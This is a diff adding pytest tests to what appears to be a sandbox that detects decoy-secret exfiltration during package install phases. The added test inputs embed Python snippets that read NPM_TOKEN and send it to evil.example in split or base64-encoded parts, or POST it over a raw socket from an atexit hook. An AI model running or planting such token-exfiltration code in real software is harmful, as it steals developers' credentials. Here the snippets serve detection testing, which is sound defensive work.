@@ -148,6 +148,36 @@ def test_a_variable_that_leaves_through_names_is_known_again():
     assert [(leak.name, leak.channel) for leak in record.leaks] == [("$NPM_TOKEN", "dns")]
 
 
+@pytest.mark.parametrize(
+    ("sent", "encoding"),
+    [
+        ("t[:12], t[12:]", "plain, in parts"),
+        ("t[16:], t[:8], t[8:16]", "plain, in parts"),
+        ("t.upper()[:12], t.upper()[12:]", "plain, in parts"),
+        ("base64.b64encode(t.encode()).decode()[:16], base64.b64encode(t.encode()).decode()[16:]", "base64, in parts"),
+    ],
+    ids=["halves", "thirds out of order", "capitals", "encoded"],
+)
+def test_a_decoy_that_leaves_in_parts_is_known_again(sent, encoding):
+    record = one(
+        python(
+            "import base64, os, urllib.request as u\n"
+            "t = os.environ['NPM_TOKEN']\n"
+            f"for part in ({sent}): u.urlopen('http://evil.example/?p=' + part).read()\n"
+        )
+    )
+
+    assert {(leak.name, leak.encoding) for leak in record.leaks} == {("$NPM_TOKEN", encoding)}
+
+
+def test_a_part_alone_is_no_decoy_that_left():
+    record = one(
+        python("import os, urllib.request as u; u.urlopen('http://evil.example/?p=' + os.environ['NPM_TOKEN'][:10])")
+    )
+
+    assert (record.complete, record.leaks) == (True, ())
+
+
 def test_gzip_hides_no_decoy():
     record = one(
         python(
@@ -213,7 +243,59 @@ def test_each_phase_has_its_own_record_and_a_fresh_home():
 
     assert [decoy.name for decoy in first.decoys] == ["~/.npmrc"]
     assert (second.decoys, b"left" in second.stdout) == ((), False)
-    assert first.started == 0 < second.started
+    assert max(first.started, second.started) < min(first.started + first.duration, second.started + second.duration)
+
+
+def test_phases_one_at_a_time_where_that_is_asked_for():
+    first, second = watch([shell("sleep 0.2"), shell("true", name="import")], together=1).phases
+
+    assert first.started + first.duration <= second.started
+
+
+def test_no_phase_hears_another_or_writes_into_its_record():
+    first, second = watch(
+        [
+            python("import time, urllib.request as u; time.sleep(1); u.urlopen('http://a.example/first')"),
+            python(
+                "import socket, time, urllib.request as u\n"
+                "s = socket.socket(); s.bind(('127.0.0.1', 7001)); s.listen(); s.settimeout(3)\n"
+                "u.urlopen('http://b.example/second')\n"
+                "try: s.accept()\n"
+                "except TimeoutError: print('nobody')\n",
+                name="tests",
+            ),
+        ]
+    ).phases
+
+    assert [request.path for request in first.http] == ["/first"]
+    assert [request.path for request in second.http] == ["/second"]
+    assert ([event.hostname for event in first.dns], second.stdout) == (["a.example"], b"nobody\n")
+
+
+def test_more_phases_than_one_sink_serves_have_their_own_records():
+    records = watch([shell(f"echo > /tmp/{number}", name=f"install {number}") for number in range(10)]).phases
+
+    assert [changed(record) for record in records] == [{f"/tmp/{number}"} for number in range(10)]
+    assert all(record.complete for record in records)
+
+
+def test_what_is_done_in_the_last_moment_is_seen():
+    record = one(
+        python(
+            "import atexit, os, socket\n"
+            "def last():\n"
+            "    open('/tmp/last', 'w').close()\n"
+            "    s = socket.create_connection(('203.0.113.9', 80))\n"
+            "    s.send(b'POST /late HTTP/1.1\\r\\nHost: late.example\\r\\nContent-Length: 24\\r\\n\\r\\n')\n"
+            "    s.send(os.environ['NPM_TOKEN'].encode())\n"
+            "    os._exit(0)\n"
+            "atexit.register(last)\n"
+        )
+    )
+
+    assert (record.complete, changed(record)) == (True, {"/tmp/last"})
+    assert [(request.path, request.body_bytes) for request in record.http] == [("/late", 24)]
+    assert [leak.name for leak in record.leaks] == ["$NPM_TOKEN"]
 
 
 def test_what_prepares_a_phase_is_not_in_its_record():
